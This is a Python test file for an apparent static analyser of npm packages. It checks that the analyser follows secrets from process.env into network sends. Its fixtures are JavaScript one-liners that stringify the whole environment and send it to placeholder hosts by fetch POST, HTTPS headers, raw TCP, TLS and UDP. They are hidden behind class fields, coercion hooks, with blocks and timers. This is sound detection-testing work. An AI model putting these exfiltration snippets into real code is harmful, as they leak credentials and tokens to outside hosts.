"""What belongs to JavaScript itself is followed: fields, blocks, conversions, what timers hand on."""

import pytest
from attack_files import npm

from ostiary.program.flow import Act, Taint
from ostiary.program.model import Program

SEND = "fetch('https://a.example.invalid/', {method: 'POST', body: BODY})"
LOOT = "JSON.stringify(process.env)"

WAYS = {
    "a block with a name": f"let b; a: {{ b = {LOOT}; break a }} {SEND.replace('BODY', 'b')}",
    "with": f"with ({{b: {LOOT}}}) {{ {SEND.replace('BODY', 'b')} }}",
    "a field": f"class Q {{ b = {LOOT}; s() {{ {SEND.replace('BODY', 'this.b')} }} }} new Q().s()",
    "a private field": f"class Q {{ #b = {LOOT}; s() {{ {SEND.replace('BODY', 'this.#b')} }} }} new Q().s()",
    "a static block": f"class Q {{ static {{ this.b = {LOOT} }}"
    f" static s() {{ {SEND.replace('BODY', 'Q.b')} }} }} Q.s()",
    "the class above": f"class P {{ g() {{ return {LOOT} }} }}"
    f" class Q extends P {{ s() {{ {SEND.replace('BODY', 'super.g()')} }} }} new Q().s()",
    "its constructor": "class P { constructor(a) { this.a = a } }"
    f" class Q extends P {{ constructor() {{ super({LOOT}) }}"
    f" s() {{ {SEND.replace('BODY', 'this.a')} }} }} new Q().s()",
    "a text of an object": f"const o = {{toString() {{ return {LOOT} }}}}; {SEND.replace('BODY', '`${o}`')}",
    "a sum with an object": f"class Q {{ [Symbol.toPrimitive]() {{ return {LOOT} }} }}"
    f" {SEND.replace('BODY', '`` + new Q()')}",
    "what is written for an object": "const o = {toJSON() { return process.env }};"
    f" {SEND.replace('BODY', 'JSON.stringify(o)')}",
    "what a timer hands on": f"setTimeout(b => {SEND.replace('BODY', 'b')}, 1, {LOOT})",
    "what the next tick hands on": f"process.nextTick(b => {SEND.replace('BODY', 'b')}, {LOOT})",
    "a header": "const r = require('https').request('https://a.example.invalid/');"
    f" r.setHeader('x', {LOOT}); r.end()",
}
ADDRESSES = {
    "a connection": f"require('net').connect(443, 'c.example.invalid').end({LOOT})",
    "an option": f"require('tls').connect({{host: 'c.example.invalid', port: 443}}).write({LOOT})",
    "a datagram": f"require('dgram').createSocket('udp4').send({LOOT}, 53, 'c.example.invalid')",
}


def sent(text: str) -> list[tuple[bool, str]]:
    """Whether the environment is in what is sent, and where to."""
    found = npm({"index.js": f"module.exports = function api() {{ {text} }}\n"}).facts
    flows = [flow for one in found if isinstance(one, Program) for flow in one.flows]
    return [(one.has(Taint.ENVIRONMENT), one.target) for one in flows if one.act is Act.SEND]


@pytest.mark.parametrize("way", WAYS)
def test_the_environment_arrives(way: str) -> None:
    assert (True, "https://a.example.invalid/") in sent(WAYS[way])


@pytest.mark.parametrize("way", ADDRESSES)
def test_a_raw_connection_has_an_address(way: str) -> None:
    assert any(loot and "c.example.invalid" in target for loot, target in sent(ADDRESSES[way]))
